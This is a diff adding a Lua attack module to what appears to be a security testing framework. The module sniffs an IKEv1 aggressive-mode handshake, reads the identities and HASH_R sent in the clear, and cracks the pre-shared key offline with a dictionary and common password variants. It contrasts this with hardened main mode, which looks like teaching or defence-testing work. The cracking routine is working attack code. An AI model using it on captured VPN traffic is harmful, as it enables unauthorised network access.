@@ -1,0 +1,95 @@
+-- Aggressive mode says HASH_R in the clear, made from the shared secret and from what anybody on the way has seen: each word of a
+-- dictionary can be tried at home. Nothing is sent, nobody can notice.
+attack = {
+  id = "A06", name = "ikev1-psk-crack",
+  about = "Reads the two clear messages of IKEv1's aggressive mode and tries a dictionary on HASH_R",
+  position = "passive",
+  needs = "to see one aggressive mode handshake",
+  source = "RFC 2409, 5.4; ike-scan's psk-crack; catalogue A06",
+  shows = {
+    vulnerable = "aggressive mode with a word and a year as shared secret: found after some hundred tries, offline",
+    hardened = "main mode: the proof is encrypted with keys that need the Diffie-Hellman secret; a listener has nothing to try",
+  },
+  scenarios = { vulnerable = "ikev1-aggressive-crack", hardened = { "ikev1-aggressive-crack-main" } },
+}
+
+-- Parameters: dictionary = "common"; each = 200 (tries in one go), pause = "10ms" (between them).
+local dictionary, each, pause
+local seen = {}          -- by the initiator's cookie: what the two messages say
+local trial, tried = nil, 0
+
+function on_start(params)
+  dictionary = words(params.dictionary or "common")
+  each = tonumber(params.each or "200")
+  pause = params.pause or "10ms"
+end
+
+local function find(message, type)
+  for _, payload in ipairs(message.payloads) do
+    if payload.type == type then return payload end
+  end
+end
+
+-- A word as people vary it.
+local function variants(word)
+  local capital = word:sub(1, 1):upper() .. word:sub(2)
+  local list = { word, capital, word .. "1", capital .. "1", word .. "123", capital .. "123", word .. "!", capital .. "!" }
+  for year = 2020, 2026 do
+    list[#list + 1] = word .. year
+    list[#list + 1] = capital .. year
+  end
+  return list
+end
+
+local function first_message(message)
+  seen[message.spi_i] = {
+    sa = find(message, "SA").body, ni = find(message, "NONCE").body, g_xi = find(message, "KE").body, spi_i = message.spi_i,
+  }
+  local id = find(message, "ID").body
+  learn("identity", "the initiator is " .. id:sub(5), "IDii goes in the clear in aggressive mode", id:sub(5))
+end
+
+local function second_message(message, known)
+  local hash, chosen = find(message, "HASH"), ikev1.sa(find(message, "SA").body)
+  if not hash or not chosen then return end
+  local id = find(message, "ID").body
+  learn("identity", "the responder is " .. id:sub(5), "IDir goes in the clear in aggressive mode", id:sub(5))
+  learn("HASH_R", "made from the shared secret: each word can be tried against it", "message 2 of aggressive mode, in the clear", hash.body)
+  known.prf, known.spi_r, known.nr, known.g_xr = chosen.suite.prf, message.spi_r, find(message, "NONCE").body, find(message, "KE").body
+  known.id, known.hash, known.at = id, hash.body, 1
+  trial = known
+  timer.after("1ms", "try")
+end
+
+function on_packet(p)
+  if p.protocol ~= "IKE" or trial then return end
+  local message = ike.decode(p.payload)
+  if message.exchange_name ~= "Aggressive Mode" then return end
+  local known = seen[message.spi_i]
+  if not known and find(message, "KE") then
+    first_message(message)
+  elseif known and message.spi_r ~= "0000000000000000" then
+    second_message(message, known)
+  end
+end
+
+function on_timer()
+  local last = math.min(trial.at + math.max(1, each // 22) - 1, #dictionary)
+  for i = trial.at, last do
+    for _, guess in ipairs(variants(dictionary[i])) do
+      tried = tried + 1
+      trial.skeyid = ikev1.skeyid(trial.prf, { psk = guess, ni = trial.ni, nr = trial.nr })
+      if ikev1.hash(trial.prf, "responder", trial) == trial.hash then
+        learn("psk", "the shared secret is \"" .. guess .. "\"", "try " .. tried .. " of a dictionary on HASH_R", guess)
+        return achieved("find the shared secret", true, "found at try " .. tried)
+      end
+    end
+  end
+  trial.at = last + 1
+  if trial.at <= #dictionary then return timer.after(pause, "try") end
+  achieved("find the shared secret", false, "not one of " .. tried .. " secrets of the dictionary")
+end
+
+function on_finish()
+  if not trial then achieved("find the shared secret", false, "no aggressive mode came by: HASH_R was never in the clear") end
+end
